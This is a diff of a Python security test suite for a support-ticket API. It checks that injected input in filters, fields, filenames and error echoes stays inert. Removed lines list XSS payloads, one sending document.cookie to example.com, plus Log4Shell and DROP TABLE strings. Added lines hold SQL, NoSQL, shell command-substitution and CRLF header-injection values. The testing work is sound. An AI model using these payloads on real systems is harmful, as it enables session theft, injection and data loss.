@@ -1,74 +1,165 @@
-"""What customers write is text, never code: in a browser, a template, a query (SEC-06)."""
+"""Values that a query, a header or a page would take for code, in every field and parameter (SEC-06)."""
+
+from collections.abc import Callable
 
 import pytest
 
-from signoff import clause, expect
-from signoff.actors import Customer
+from signoff import Level, clause, expect
+from signoff.actors import Customer, Operator
+from signoff.actors.browser import Browser
+from signoff.expect.inert import active_content
+from signoff.wire.answers import Ticket, ticket
+from signoff.wire.exchange import Answer
+from tests.security.corpus import a_few
 
-ACTIVE = {
-    "script": "<script>fetch('//example.com/'+document.cookie)</script>",
-    "script in svg": "<svg><script>alert(1)</script></svg>",
-    "handler without space": "<img/src=x/onerror=alert(1)>",
-    "details": "<details open ontoggle=alert(1)>",
-    "math": '<math><a xlink:href="javascript:alert(1)">x</a></math>',
-    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "template": "<template><script>alert(1)</script></template>",
-    "comment end": "<!--><img src=x onerror=alert(1)>-->",
-    "cdata": "<![CDATA[><script>alert(1)</script>]]>",
-    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-    "base": '<base href="https://example.com/">',
-    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
-    "markdown scheme in capitals": "[x](JaVaScRiPt:alert(1))",
-    "markdown scheme with an entity": "[x](javascript&#58;alert(1))",
-    "markdown scheme with a tab": "[x](java&Tab;script:alert(1))",
-    "markdown vbscript": "[x](vbscript:msgbox(1))",
-    "markdown in angle brackets": "[x](<javascript:alert(1)>)",
-    "markdown reference": "[x][1]\n\n[1]: javascript:alert(1)",
-    "markdown autolink": "<javascript:alert(1)>",
-    "null byte": "<scr\x00ipt>alert(1)</scr\x00ipt>",
-    "after a code span": "`code` <img src=x onerror=alert(1)>",
-    "in a code fence": "```\n</code></pre><script>alert(1)</script>\n```",
-    "after a long text": "It is a long story. " * 450 + "<script>alert(1)</script>",
+CODE = [
+    "open' OR '1'='1",
+    'open" || "1"=="1',
+    '{"$ne": null}',
+    "open) OR attribute_exists(id",
+    "*",
+    ":customer",
+    "#status",
+    "$(sleep 9)",
+    "open\r\nX-Injected: yes",
+    "%00%0d%0aX-Injected:%20yes",
+]
+"""What a database, a shell or an HTTP header would make something of."""
+
+Ask = Callable[[Customer, Ticket, str], Answer]
+FILTERS: dict[str, Ask] = {
+    "status": lambda customer, opened, code: customer.tries_to_list(status=code),
+    "priority": lambda customer, opened, code: customer.tries_to_list(priority=code),
 }
-LITERAL = {
-    "template braces": "{{7*7}} and {%print(7*7)%} and #{7*7}",
-    "dollar braces": "${7*7} and ${jndi:ldap://127.0.0.1/a}",
-    "SQL": "'; DROP TABLE support_tickets; --",
-    "NoSQL": '{"$gt": ""} or {"S": "x"}',
-    "format string": "%s%n %(name)s {0} {name!r}",
-    "log line": 'ok\n{"level":"INFO","message":"forged"}\r\nforged=1',
-    "spreadsheet": '=HYPERLINK("https://example.com","x")',
+ASKED: dict[str, Ask] = {
+    "place in the list": lambda customer, opened, code: customer.tries_to_list(place=code),
+    "place in the comments": lambda customer, opened, code: customer.tries_to_read_comments(
+        opened, place=code
+    ),
+    "id to read": lambda customer, opened, code: customer.tries_to_read(code),
+    "id to update": lambda customer, opened, code: customer.tries_to_update(code, status="closed"),
+    "id to comment on": lambda customer, opened, code: customer.tries_to_comment(code, "Not to be found."),
+    "status to set": lambda customer, opened, code: customer.tries_to_update(opened, status=code),
+    "category to open with": lambda customer, opened, code: customer.tries_to_open_ticket(category=code),
+    "notification to mark": lambda customer, opened, code: customer.tries_to_mark_read(code),
+    "notification to delete": lambda customer, opened, code: customer.tries_to_delete_notification(code),
+    "type of notifications": lambda customer, opened, code: customer.tries_to_list_notifications(type=code),
+}
+WRITTEN: dict[str, Ask] = {
+    "subject": lambda customer, opened, text: customer.tries_to_open_ticket(subject=text),
+    "description": lambda customer, opened, text: customer.tries_to_open_ticket(description=text),
+    "assigned_to": lambda customer, opened, text: customer.tries_to_update(opened, assigned_to=text),
 }
 
 
-@clause("SEC-06", requests=3)
-@pytest.mark.parametrize("text", ACTIVE.values(), ids=list(ACTIVE))
-def test_a_stored_comment_cannot_run_in_a_browser(customer_a: Customer, text: str) -> None:
+@clause("SEC-06", requests=len(CODE) + 2)
+@pytest.mark.parametrize("parameter", FILTERS)
+def test_code_in_a_filter_finds_nothing_more(customer_a: Customer, parameter: str) -> None:
     opened = customer_a.opens_ticket()
-    expect(customer_a.tries_to_comment(opened, text)).has_status(201, 400, 422)
-    for stored in customer_a.reads_comments(opened):
-        expect(stored.text, "the stored comment").is_inert()
+    customer_a.updates(opened, status="resolved")
+    for code in CODE:
+        answer = FILTERS[parameter](customer_a, opened, code)
+        if answer.status == 200:
+            page = answer.json[answer.dialect.envelopes.tickets]
+            expect(page, "the list under a filter that no ticket matches", of=answer).equals([])
+        else:
+            expect(answer).is_refused()
 
 
-@clause("SEC-06", requests=4)
-@pytest.mark.parametrize("text", LITERAL.values(), ids=list(LITERAL))
-def test_code_in_a_comment_is_kept_as_text(customer_a: Customer, text: str) -> None:
+@clause("SEC-06", requests=len(CODE) + 4, level=Level.SHOULD)
+@pytest.mark.parametrize("place", ASKED)
+def test_code_is_refused_wherever_something_is_asked_for(customer_a: Customer, place: str) -> None:
     opened = customer_a.opens_ticket()
-    expect(customer_a.tries_to_comment(opened, text)).is_created()
-    stored = [comment.text for comment in customer_a.reads_comments(opened)]
-    expect(stored, "the stored comments").is_one_of(([text], [text.replace("\r\n", "\n")]))
-    expect(len(customer_a.lists_tickets()), "the number of tickets").equals(1)
+    before = customer_a.reads(opened)
+    for code in CODE:
+        answer = ASKED[place](customer_a, opened, code)
+        expect(answer).is_refused().reveals_no_internals()
+        expect(sorted(answer.headers), "the headers", of=answer).lacks("x-injected")
+        expect(answer.exchange.ms, "how long the refusal took, in ms", of=answer).is_between(0, 2000)
+    expect([one.raw for one in customer_a.lists_tickets()], "the tickets afterwards").equals([before.raw])
 
 
-@clause("SEC-06", requests=3)
-@pytest.mark.parametrize(
-    "value", ["open' OR '1'='1", 'open" || "1"=="1', '{"$ne": null}', "open) OR attribute_exists(id", "*"]
-)
-def test_code_in_a_filter_finds_nothing_more(customer_a: Customer, value: str) -> None:
-    customer_a.updates(customer_a.opens_ticket(), status="resolved")
-    answer = customer_a.tries_to_list(status=value)
-    if answer.status == 200:
-        page = answer.json[answer.dialect.envelopes.tickets]
-        expect(page, "the list under a filter that no ticket matches", of=answer).equals([])
-    else:
-        expect(answer).is_refused()
+@clause("SEC-06", requests=len(CODE) + len(a_few()) + 3, level=Level.SHOULD)
+@pytest.mark.parametrize("field", WRITTEN)
+def test_what_a_field_holds_stays_data(customer_a: Customer, browser: Browser, field: str) -> None:
+    opened, altered = customer_a.opens_ticket(), {}
+    for name, text in (a_few() | dict(zip(CODE, CODE, strict=True))).items():
+        answer = WRITTEN[field](customer_a, opened, text)
+        if answer.status not in (200, 201):
+            expect(answer).is_refused()
+            continue
+        shown = getattr(customer_a.parsed(ticket, answer.json, answer), field)
+        # As it was written, for whoever shows it as text; if not, then harmless however it is shown.
+        if shown.strip() != text.strip() and (active_content(shown) or name in CODE):
+            altered[name] = shown
+        expect(sorted(answer.headers), "the headers", of=answer).lacks("x-injected")
+    expect(altered, f"what became of each {field}, neither kept nor harmless,").equals({})
+    listed = customer_a.tries_to_list()
+    expect(browser.opens(listed), "what the list does when it is opened as a page", of=listed).equals([])
+
+
+@clause("SEC-06", requests=len(a_few()) + 2, level=Level.SHOULD)
+def test_what_an_invoked_notification_says_stays_data(
+    customer_a: Customer, operator: Operator, browser: Browser
+) -> None:
+    altered, named = {}, {}
+    for name, text in a_few().items():
+        told = operator.tries_to_invoke(operator.notification_fields(customer_a, title=text, message=text))
+        expect(told.answer_status or 201, f"the answer to {name}").is_one_of([200, 201, 202, 400, 422])
+        named[text.strip()] = name
+    listed = customer_a.tries_to_list_notifications()
+    for one in customer_a.lists_notifications():
+        for shown in (str(one.title), str(one.message)):
+            if shown.strip() not in named and active_content(shown):
+                altered[shown] = one.id
+    expect(altered, "what became of a title or a message, neither kept nor harmless,").equals({})
+    expect(browser.opens(listed), "what the inbox does when it is opened as a page", of=listed).equals([])
+
+
+@clause("SEC-06", requests=5 + 3, level=Level.SHOULD)
+def test_what_a_file_is_called_stays_data(customer_a: Customer, browser: Browser) -> None:
+    opened = customer_a.opens_ticket()
+    for number, text in enumerate(list(a_few().values())[:5]):
+        answer = customer_a.tries_to_register(opened, b"Nothing.", filename=f"{number} {text}.txt")
+        expect(answer.status < 500, "an answer that is no server error", of=answer).equals(True)
+        expect(browser.opens(answer), "what the answer does when it is opened", of=answer).equals([])
+    seen = customer_a.tries_to_read(opened)
+    expect(browser.opens(seen), "what the ticket does when it is opened as a page", of=seen).equals([])
+
+
+MARKUP = a_few()["handler"]
+ECHOED: dict[str, Callable[[Customer], Answer]] = {
+    "the name of a field": lambda customer: customer.tries_raw_ticket(customer.draft() | {MARKUP: 1}),
+    "an unknown value": lambda customer: customer.tries_to_open_ticket(priority=MARKUP),
+    "a filter": lambda customer: customer.tries_to_list(status=MARKUP),
+    "a cursor": lambda customer: customer.tries_to_list(place=MARKUP),
+    "an id": lambda customer: customer.tries_to_read(MARKUP),
+    "broken JSON": lambda customer: customer.tries_raw(
+        "POST",
+        customer.dialect.paths.create_ticket,
+        "sends broken JSON with markup",
+        content=MARKUP.encode(),
+        headers={"Content-Type": "application/json"},
+    ),
+    "a content type": lambda customer: customer.tries_raw(
+        "POST",
+        customer.dialect.paths.create_ticket,
+        "sends an unknown content type with markup",
+        content=b"{}",
+        headers={"Content-Type": f"text/html; x={MARKUP}"},
+    ),
+    "a path": lambda customer: customer.tries_raw(
+        "GET", f"{customer.dialect.paths.tickets}/%3Cimg%20src=x%20onerror=alert(1)%3E/x", "asks for markup"
+    ),
+}
+
+
+@clause("SEC-06", requests=len(ECHOED) + 1, level=Level.SHOULD)
+def test_a_refusal_does_nothing_as_a_page(customer_a: Customer, browser: Browser) -> None:
+    expect(customer_a.tries_to_list()).is_ok()
+    for echo in ECHOED.values():
+        answer = echo(customer_a)
+        expect(answer.status < 500, "an answer that is no server error", of=answer).equals(True)
+        expect(browser.opens(answer), "what the refusal does when it is opened as a page", of=answer).equals(
+            []
+        )
